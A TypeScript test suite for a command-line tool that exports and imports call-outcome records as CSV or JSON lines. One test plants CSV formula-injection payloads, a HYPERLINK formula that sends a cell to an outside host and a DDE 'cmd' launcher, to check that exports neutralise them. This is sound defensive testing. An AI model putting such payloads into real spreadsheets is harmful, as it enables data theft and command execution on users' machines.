import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { expect, it } from 'vitest';
import { listen } from '../../../bin/local/listen.ts';
import { newApiKey } from '../../../functions/domain/api-keys.ts';
import { pull, push, writeTestFile } from '../../support/outcomes-tool.ts';
import { newUser, newWorld, target, type World } from '../../support/world.ts';

const { baseUrl } = target;

const readRows = (file: string): Record<string, string>[] => parse(readFileSync(file, 'utf8'), { columns: true });
const getCall = async (world: World, callId: string) => world.call('GET', `/calls/${world.agentId}/${callId}`);

const worldWithCalls = async () => {
  const world = await newWorld();
  for (const day of [1, 2, 3]) await world.recordCall(`c${day}`, { startedAt: `2026-03-0${day}T10:00:00.000Z` });
  await world.call('PATCH', `/calls/${world.agentId}/c2`, {
    body: '{"custom_call_outcome":"say \\"hi\\", twice","custom_call_metadata":{"id":12345678901234567890}}',
  });
  return world;
};

it('outcomes pull writes the calls without an outcome to a file that push accepts, once it is completed', async () => {
  const world = await worldWithCalls();
  const { agentId, apiKey } = world;
  const file = writeTestFile('calls.csv', '');
  const flags = ['--agent-id', agentId, '--from', '2026-03-02', '--without-outcome'];
  expect(await pull(file, { baseUrl, apiKey, flags })).toEqual({
    code: 0,
    stdout: `1 call written to ${file}.\n`,
    stderr: '',
  });
  const rows = readRows(file);
  expect(rows).toMatchObject([
    { agentId, callIdOrPhone: 'c3', phone: '+14155550100', direction: 'inbound', custom_call_outcome: '' },
  ]);
  const completed = rows.map((row) => ({ ...row, custom_call_outcome: 'won', custom_call_outcome_value: '9.5' }));
  writeFileSync(file, stringify(completed, { header: true }));
  expect(await push(file, { baseUrl, apiKey })).toMatchObject({ code: 0, stderr: '' });
  expect((await getCall(world, 'c3')).body).toMatchObject({
    custom_call_outcome: 'won',
    custom_call_outcome_value: 9.5,
  });
  await pull(file, { baseUrl, apiKey, flags });
  expect(readRows(file)).toEqual([]);
});

it.each(['calls.csv', 'calls.jsonl'])('outcomes pull and push to %s and back change nothing', async (name) => {
  const world = await worldWithCalls();
  const { agentId, apiKey } = world;
  const file = writeTestFile(name, '');
  await pull(file, { baseUrl, apiKey, flags: ['--agent-id', agentId, '--outcome', 'say "hi", twice'] });
  const before = (await getCall(world, 'c2')).body;
  expect(await push(file, { baseUrl, apiKey })).toMatchObject({ code: 0, stderr: '' });
  const { body, text } = await getCall(world, 'c2');
  expect(text).toContain('12345678901234567890');
  expect(body).toEqual({ ...before, outcomeUpdatedAt: body.outcomeUpdatedAt, outcomeHistory: body.outcomeHistory });
});

it('outcomes pull writes no formula of a spreadsheet, and push reads each text as it was', async () => {
  const world = await newWorld();
  const { agentId, apiKey } = world;
  const labels = ['=HYPERLINK("http://example.com/?"&A1,"ok")', "'=1+1", "''-1", "'quoted'", '+1', '＝1+1', '-'];
  for (const [index, label] of labels.entries()) {
    await world.recordCall(`-c${index}`, { status: "=cmd|'/C calc'!A0" });
    const body = { custom_call_outcome: label, custom_call_outcome_value: -5 };
    await world.call('PATCH', `/calls/${agentId}/-c${index}`, { body });
  }
  const file = writeTestFile('calls.csv', '');
  await pull(file, { baseUrl, apiKey, flags: ['--agent-id', agentId] });
  const cells = readRows(file).flatMap(({ callIdOrPhone, custom_call_outcome, status }) => [
    ...[callIdOrPhone, custom_call_outcome, status],
  ]);
  expect(cells.filter((cell) => /^([=\-@＝]|\+(?!\d+$))/.test(cell ?? ''))).toEqual([]);
  for (const index of labels.keys())
    await world.call('PATCH', `/calls/${agentId}/-c${index}`, { body: { custom_call_outcome: 'other' } });
  expect(await push(file, { baseUrl, apiKey })).toMatchObject({ code: 0, stderr: '' });
  const bodies = await Promise.all(labels.keys().map(async (index) => (await getCall(world, `-c${index}`)).body));
  expect(bodies.map((body) => [body.custom_call_outcome, body.custom_call_outcome_value])).toEqual(
    labels.map((label) => [label, -5]),
  );
});

it('outcomes pull without an agent writes the calls of all agents, if the key may list them', async () => {
  const world = await worldWithCalls();
  const { agentId: second } = (await world.call('POST', '/agents', { body: { uid: world.uid, name: 'Second' } })).body;
  const other = { direction: 'inbound', startedAt: '2026-03-02T10:00:00Z' };
  await world.call('PUT', `/calls/${second}/other`, { body: other });
  const file = writeTestFile('calls.csv', '');
  const flags = ['--from', '2026-03-02', '--without-outcome'];
  expect(await pull(file, { baseUrl, apiKey: world.apiKey, flags })).toMatchObject({ code: 0, stderr: '' });
  const pulled = readRows(file).map(({ agentId, callIdOrPhone }) => [agentId, callIdOrPhone]);
  expect(pulled.sort()).toEqual(
    [
      [world.agentId, 'c3'],
      [second, 'other'],
    ].sort(),
  );
  const { apiKey: onlyCalls } = await newUser(['calls']);
  expect(await pull(file, { baseUrl, apiKey: onlyCalls, flags })).toMatchObject({
    code: 1,
    stderr: expect.stringContaining('agents'),
  });
});

it('outcomes pull reads all pages of a long list, and retries a page that failed', async () => {
  const call = (callId: string) => ({
    agentId: 'a',
    callId,
    direction: 'inbound',
    startedAt: '2026-03-01T10:00:00.000Z',
  });
  const requests: (string | null)[] = [];
  const server = createServer((request, response) => {
    const cursor = new URL(request.url ?? '', 'http://localhost').searchParams.get('cursor');
    requests.push(cursor);
    const page = cursor ? { calls: [call('c2')] } : { calls: [call('c1')], nextCursor: 'next' };
    const failed = requests.length === 2;
    response.writeHead(failed ? 503 : 200, { 'content-type': 'application/json' });
    response.end(failed ? '{}' : JSON.stringify(page));
  });
  const { endpoint, stop } = await listen(server);
  const file = writeTestFile('calls.jsonl', '');
  const { code } = await pull(file, { baseUrl: endpoint, apiKey: newApiKey(), flags: ['--agent-id', 'a'] });
  await stop();
  const lines = readFileSync(file, 'utf8').trim().split('\n');
  expect([code, lines.map((line) => JSON.parse(line).callIdOrPhone)]).toEqual([0, ['c1', 'c2']]);
  expect(requests).toEqual([null, 'next', 'next']);
});

it('outcomes pull leaves the former file when it fails', async () => {
  const file = writeTestFile('calls.csv', 'former');
  const flags = ['--agent-id', 'a'];
  const refused = await pull(file, { baseUrl, apiKey: newApiKey(), flags });
  expect(refused).toMatchObject({
    code: 1,
    stdout: '',
    stderr: expect.stringContaining('The API key is not valid.'),
  });
  expect(await pull(file, { baseUrl, flags })).toMatchObject({ code: 2, stdout: '' });
  expect(await pull(writeTestFile('calls.txt', ''), { baseUrl, flags })).toMatchObject({ code: 2, stdout: '' });
  expect([readFileSync(file, 'utf8'), existsSync(`${file}.part`)]).toEqual(['former', false]);
});

it.each([
  ['csv', stringify],
  ['jsonl', undefined],
] as const)(
  'outcomes push --only-failed sends only the corrected rows of a results file: %s',
  async (format, toCsv) => {
    const world = await worldWithCalls();
    const { agentId, apiKey } = world;
    const rows = [
      { agentId, callIdOrPhone: 'c1', custom_call_outcome: 'first' },
      { agentId, callIdOrPhone: 'absent', custom_call_outcome: 'second' },
      { agentId, callIdOrPhone: 'not a call', custom_call_outcome: 'third' },
    ];
    const write = (file: string, records: object[]) =>
      writeFileSync(
        file,
        toCsv ? toCsv(records, { header: true }) : records.map((record) => `${JSON.stringify(record)}\n`).join(''),
      );
    const read = (file: string): Record<string, string>[] =>
      toCsv
        ? readRows(file)
        : readFileSync(file, 'utf8')
            .trim()
            .split('\n')
            .map((line) => JSON.parse(line));
    const file = writeTestFile(`calls.${format}`, '');
    write(file, rows);
    expect((await push(file, { baseUrl, apiKey })).code).toBe(1);
    const results = read(`${file}.results.${format}`);
    expect(results.map(({ status, custom_call_outcome }) => [status, custom_call_outcome])).toEqual([
      ['updated', 'first'],
      ['failed', 'second'],
      ['invalid', 'third'],
    ]);

    const corrected = { absent: 'c2', 'not a call': 'c3' } as Record<string, string>;
    write(
      `${file}.results.${format}`,
      results.map((row) => ({ ...row, callIdOrPhone: corrected[row.callIdOrPhone ?? ''] ?? row.callIdOrPhone })),
    );
    const hint = await push(`${file}.results.${format}`, { baseUrl, apiKey });
    expect(hint).toMatchObject({ code: 2, stdout: '', stderr: expect.stringContaining('use --only-failed.') });
    const again = await push(`${file}.results.${format}`, { baseUrl, apiKey, flags: ['--only-failed'] });
    expect(again).toMatchObject({ code: 0, stdout: expect.stringContaining('2 set, 0 failed') });
    expect(read(`${file}.results-2.${format}`).map(({ status, call_id }) => [status, call_id])).toEqual([
      ['updated', 'c2'],
      ['updated', 'c3'],
    ]);
    expect((await getCall(world, 'c3')).body.custom_call_outcome).toBe('third');
    expect((await getCall(world, 'c1')).body.outcomeHistory).toHaveLength(1);
    const other = await push(file, { baseUrl, apiKey, flags: ['--only-failed'] });
    expect(other).toMatchObject({
      code: 2,
      stderr: expect.stringContaining('--only-failed requires a results file'),
    });
  },
);

it('an unknown field stops JSON lines at once and lists the known fields, unless --ignore-unknown is given', async () => {
  const world = await worldWithCalls();
  const { agentId, apiKey } = world;
  const line = JSON.stringify({ agentId, callId: 'c1', custom_call_outcome: 'x' });
  const file = writeTestFile('calls.jsonl', `${line}\n${line}\n`);
  const stopped = await push(file, { baseUrl, apiKey });
  expect(stopped).toMatchObject({ code: 2, stdout: '' });
  expect(stopped.stderr.replace(file, 'FILE')).toBe(
    'FILE:1: unknown field "callId". The fields are agentId, callIdOrPhone, preference, metadataMode, custom_call_outcome, custom_call_outcome_value, custom_call_metadata. To name its field, use --map "callId=FIELD"; to skip unknown ones, --ignore-unknown.\n',
  );
  expect(existsSync(`${file}.results.jsonl`)).toBe(false);
  const ignored = await push(file, { baseUrl, apiKey, flags: ['--ignore-unknown'] });
  expect(ignored).toMatchObject({ code: 1, stdout: expect.stringContaining('2 invalid and not sent') });
});
